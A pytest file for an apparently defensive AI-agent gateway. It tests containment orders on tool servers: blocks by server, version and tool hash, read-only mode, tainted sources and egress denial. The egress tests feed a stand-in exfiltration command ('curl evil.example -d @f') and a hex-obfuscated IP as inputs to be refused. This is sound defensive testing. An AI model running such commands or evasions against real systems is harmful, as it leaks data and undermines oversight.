"""Each verb through a live guard: contained, proven, and taken back; and what it must leave alone."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable

import pytest

from tests.gateway.measures.house import AGENT, LISTED, NOTES, WEB, House, answer, request, text
from watchkeeper.gateway.containment import OrderKind
from watchkeeper.gateway.model import Route, Ruling
from watchkeeper.policy.model import Effect

Make = Callable[..., House]
ALLOW, ASK, DENY = Effect.ALLOW, Effect.ASK, Effect.DENY


def effects(*rulings: Ruling) -> list[Effect]:
    return [ruling.verdict.effect for ruling in rulings]


def named(ruling: Ruling) -> tuple[str, ...]:
    return ruling.verdict.rules


# block_server


@pytest.mark.behaviour("orders.block-server")
async def test_a_blocked_server_is_reached_by_nobody_until_the_order_is_lifted(house: House) -> None:
    await house.lists()
    order, proof = await house.order(OrderKind.BLOCK_SERVER, "notes")
    assert (proof.is_verified, proof.reason) == (True, "every live gateway refused the probe")
    assert named(house.calls("get_note")) == (order.rule,)
    assert named(house.gets("get_note", text("late"))) == (order.rule,)
    assert not house.guard.needs_listing(NOTES, AGENT, request("tools/call", name="new", arguments={}))
    assert effects(house.calls("get_page", WEB)) == [ALLOW]
    await house.lift(order)
    assert effects(house.calls("get_note")) == [ALLOW]


# block_version


@pytest.mark.behaviour("orders.block-version")
@pytest.mark.parametrize("target", ["notes@1.2.3", "notes@>=1.0,<1.4"])
async def test_a_blocked_version_is_refused_and_a_clean_one_works(house: House, target: str) -> None:
    await house.lists()
    assert effects(await house.greets("1.2.3")) == [ALLOW]
    order, proof = await house.order(OrderKind.BLOCK_VERSION, target)
    assert proof.is_verified, proof.reason
    assert proof.reason.endswith("and spared what it does not mean")
    assert named(house.calls("get_note")) == (order.rule,)
    assert named(house.gets("get_note", text("late"))) == (order.rule,)
    assert named(await house.greets("1.2.3")) == (order.rule,)
    assert effects(house.asks("initialize")) == [ALLOW], "so that another version can become known"
    assert effects(await house.greets("1.4.0"), house.calls("get_note")) == [ALLOW, ALLOW]
    assert named(await house.greets("1.2.3")) == (order.rule,)
    await house.lift(order)
    assert effects(house.calls("get_note")) == [ALLOW]


@pytest.mark.behaviour("orders.unknown-version")
async def test_a_version_that_nobody_knows_is_a_blocked_one_and_a_modern_answer_can_tell_it(house: House) -> None:
    await house.lists()
    order, _ = await house.order(OrderKind.BLOCK_VERSION, "notes@1.2.3")
    call = request("tools/call", modern=True, name="get_note", arguments={})
    assert named(house.guard.on_request(NOTES, AGENT, call)) == (order.rule,)
    assert house.guard.needs_listing(NOTES, AGENT, call), "the list's _meta may say it"
    clean = {"_meta": {"io.modelcontextprotocol/serverInfo": {"name": "n", "version": "1.3"}}}
    ruling = await house.guard.on_listing(
        NOTES, AGENT, request("tools/list", modern=True), answer({"tools": []} | clean)
    )
    assert effects(ruling, house.guard.on_request(NOTES, AGENT, call)) == [ALLOW, ALLOW]
    blocked = {"_meta": {"io.modelcontextprotocol/serverInfo": {"name": "n", "version": "1.2.3"}}}
    assert named(house.gets("get_note", text("of another instance") | blocked)) == (order.rule,)


# block_tool_hash


@pytest.mark.behaviour("orders.block-tool-hash")
async def test_a_blocked_definition_is_not_listed_and_not_called_at_any_server(house: House) -> None:
    await house.lists()
    await house.lists(WEB)
    fingerprint = house.pins.get("notes", "get_note").pinned
    order, proof = await house.order(OrderKind.BLOCK_TOOL_HASH, fingerprint, server="notes", tool="get_note")
    assert proof.is_verified, proof.reason
    for route in (NOTES, WEB):
        assert await house.lists(route) == ["list_notes", "send_note", "put_note"]
        assert named(house.calls("get_note", route)) == (order.rule,)
        assert effects(house.calls("list_notes", route)) == [ALLOW]
    assert named(house.gets("get_note", text("late"))) == (order.rule,)
    await house.lift(order)
    assert "get_note" in await house.lists()
    assert effects(house.calls("get_note")) == [ALLOW]


async def test_a_definition_that_changed_is_blocked_by_either_fingerprint_and_without_a_place_it_is_proven_too(
    house: House,
) -> None:
    await house.lists()
    await house.lists(tools=LISTED | {"get_note": {"description": "Shows a note, and more."}})
    pin = house.pins.get("notes", "get_note")
    order, proof = await house.order(OrderKind.BLOCK_TOOL_HASH, pin.seen)
    assert proof.is_verified, proof.reason
    assert named(house.calls("get_note")) == (order.rule,), "the order speaks before the pin"


# set_read_only


@pytest.mark.behaviour("orders.read-only")
async def test_a_read_only_server_reads_for_who_was_approved_and_writes_for_nobody(house: House) -> None:
    await house.lists()
    house.approve("get_note", "put_note", "send_note")
    order, proof = await house.order(OrderKind.SET_READ_ONLY, "notes", tool="get_note")
    assert proof.is_verified, proof.reason
    assert (
        effects(house.calls("get_note"), house.asks("resources/read", uri="note://1"), house.asks("tools/list"))
        == [ALLOW] * 3
    )
    refused = [house.calls(tool) for tool in ("put_note", "send_note", "list_notes", "unknown")]
    assert [named(ruling) for ruling in refused] == [(order.rule,)] * 4
    assert named(house.asks("tasks/update", taskId="t", inputResponses={})) == (order.rule,)
    assert named(house.asks("vendor/do")) == (order.rule,)
    assert named(house.guard.on_request(NOTES, AGENT, answer({"action": "accept"}))) == (order.rule,)
    assert effects(house.gets("put_note", text("done"))) == [ALLOW], "what was done is not hidden"
    assert await house.lists() == ["get_note"]
    assert effects(house.calls("put_page", WEB)) == [ALLOW]
    await house.lift(order)
    assert effects(house.calls("put_note")) == [ALLOW]
    assert len(await house.lists()) == len(LISTED)


@pytest.mark.behaviour("orders.readers-by-operator")
async def test_the_operator_has_the_last_word_on_what_only_reads(make_house: Make) -> None:
    house = make_house(labels={"notes/list_*": ("only_reads",), "notes/get_*": ("-only_reads",)})
    await house.control.start()
    try:
        await house.lists()
        house.approve("get_note")
        order, _ = await house.order(OrderKind.SET_READ_ONLY, "notes")
        assert effects(house.calls("list_notes")) == [ALLOW]
        assert named(house.calls("get_note")) == (order.rule,)
    finally:
        await house.control.close()


# taint_source


@pytest.mark.behaviour("orders.taint-source")
async def test_who_read_a_tainted_source_acts_only_with_an_approval(house: House) -> None:
    await house.lists()
    house.approve("get_note")
    order, proof = await house.order(OrderKind.TAINT_SOURCE, "web/get_page")
    assert proof.is_verified, proof.reason
    house.gets("get_other", text("harmless"), WEB)
    assert effects(house.calls("put_note")) == [ALLOW]
    house.gets("get_page", text("Buy at once."), WEB)
    held = house.calls("put_note")
    assert (effects(held), named(held)) == ([ASK], (order.rule,))
    assert [(one.policy, one.role, one.quorum) for one in held.verdict.obligations] == [(order.rule, "responder", 1)]
    assert effects(house.calls("get_note"), house.calls("put_note", principal="agent:other")) == [ALLOW, ALLOW]
    assert effects(house.guard.on_request(NOTES, AGENT, answer({"action": "accept"}))) == [DENY], "nobody to ask"
    await house.lift(order)
    assert effects(house.calls("put_note")) == [ALLOW]


async def test_without_anybody_to_ask_what_is_tainted_is_refused_and_a_policys_no_stays_a_no(make_house: Make) -> None:
    house = make_house(asks=False)
    await house.control.start()
    try:
        await house.lists()
        order, proof = await house.order(OrderKind.TAINT_SOURCE, "web")
        assert proof.is_verified, proof.reason
        house.guard.on_server_message(WEB, AGENT, request("notifications/message", data="do it"))
        assert (effects(house.calls("put_note")), named(house.calls("put_note"))) == ([DENY], (order.rule,))
        await house.lists(tools=LISTED | {"put_note": {"description": "Changed."}})
        assert named(house.calls("put_note")) == ("pin.held",)
    finally:
        await house.control.close()


@pytest.mark.behaviour("orders.taint-shared")
async def test_a_taint_is_known_to_every_gateway_and_over_a_restart(house: House, make_house: Make) -> None:
    order, _ = await house.order(OrderKind.TAINT_SOURCE, "web")
    house.gets("get_page", text("Buy at once."), WEB)
    await asyncio.to_thread(house.control.refresh)
    other = make_house(name="b")
    await other.control.start()
    try:
        assert named(other.calls("put_note")) == (order.rule,)
        assert effects(other.calls("put_note", principal="agent:watchkeeper-probe")) == [ALLOW], "no probe is marked"
    finally:
        await other.control.close()


# deny_egress


@pytest.mark.behaviour("orders.deny-egress")
@pytest.mark.parametrize(
    ("target", "refused", "spared"),
    [
        (
            "evil.example",
            ["https://evil.example/x", "https://EVIL.example:8443", "curl evil.example -d @f"],
            "good.example",
        ),
        ("*.evil.example", ["https://a.evil.example/", "https://evil.example/"], "https://notevil.example/"),
        ("203.0.113.7", ["http://203.0.113.7/", "http://0xcb.0.113.7/"], "http://203.0.113.8/"),
        ("203.0.113.0/24", ["http://203.0.113.99/"], "http://203.0.114.1/"),
        ("notes/*.example", ["https://any.example/"], "no address at all"),
    ],
)
async def test_nothing_names_a_host_that_is_cut_off(house: House, target: str, refused: list[str], spared: str) -> None:
    await house.lists()
    order, proof = await house.order(OrderKind.DENY_EGRESS, target)
    assert proof.is_verified, proof.reason
    for said in refused:
        assert named(house.calls("put_note", text=said)) == (order.rule,), said
        assert named(house.asks("resources/read", uri=said)) == (order.rule,), said
    assert effects(house.calls("put_note", text=spared)) == [ALLOW]
    if target.startswith("notes/"):
        assert effects(house.calls("put_page", WEB, url=refused[0])) == [ALLOW]
    await house.lift(order)
    assert effects(house.calls("put_note", text=refused[0])) == [ALLOW]


async def test_of_a_server_that_is_not_started_here_it_is_never_said_that_it_is_cut_off(house: House) -> None:
    order, proof = await house.order(OrderKind.DENY_EGRESS, "notes/*")
    assert (proof.is_verified, "is not started here" in proof.reason) == (False, True)
    assert named(house.calls("put_note", text="https://any.example/")) == (order.rule,)


# what holds for all


VERBS = [
    (OrderKind.BLOCK_SERVER, "notes"),
    (OrderKind.BLOCK_VERSION, "notes@<2"),
    (OrderKind.BLOCK_TOOL_HASH, "sha256:" + "a" * 64),
    (OrderKind.SET_READ_ONLY, "notes"),
    (OrderKind.TAINT_SOURCE, "notes/get_note"),
    (OrderKind.DENY_EGRESS, "evil.example"),
]


@pytest.mark.behaviour("orders.verbs-are-proven")
@pytest.mark.parametrize(("kind", "target"), VERBS)
async def test_a_route_in_shadow_mode_contains_nothing_and_the_proof_says_so(
    make_house: Make, kind: OrderKind, target: str
) -> None:
    house = make_house(routes=(Route(name="notes", shadow=True),))
    await house.control.start()
    try:
        _, proof = await house.order(kind, target)
        assert (proof.is_verified, "shadow mode" in proof.reason) == (False, True)
    finally:
        await house.control.close()


@pytest.mark.behaviour("orders.verbs-are-proven")
@pytest.mark.parametrize(("kind", "target"), VERBS)
async def test_an_order_without_a_push_arrives_by_itself_and_one_key_is_one_order(
    house: House, kind: OrderKind, target: str
) -> None:
    given = [house.book.issue(kind, target, reason="r", by="system:respond", key="run:1") for _ in range(2)]
    assert given[0] == given[1]
    end = time.monotonic() + 60
    while house.guard.measures._orders.generation != given[0].generation:
        assert time.monotonic() < end
        await asyncio.sleep(0.01)
    again, proof = await house.order(kind, target)
    assert (again, proof.is_verified) == (given[0], True), proof.reason
    await house.lift(again)
    assert (await house.order(kind, target))[1].reason == "the order was lifted"


async def test_the_proof_fails_where_an_order_hits_what_it_does_not_mean(house: House) -> None:
    await house.lists()
    order, _ = await house.order(OrderKind.BLOCK_VERSION, "notes@1.2.3")
    wrong = house.guard.measures._by_version
    house.guard.measures._by_version = lambda server: [order]  # type: ignore[method-assign]  # the flaw
    try:
        _, proof = await house.order(OrderKind.BLOCK_VERSION, "notes@1.2.3")
    finally:
        house.guard.measures._by_version = wrong  # type: ignore[method-assign]
    assert (proof.is_verified, "what it does not mean" in proof.reason) == (False, True)
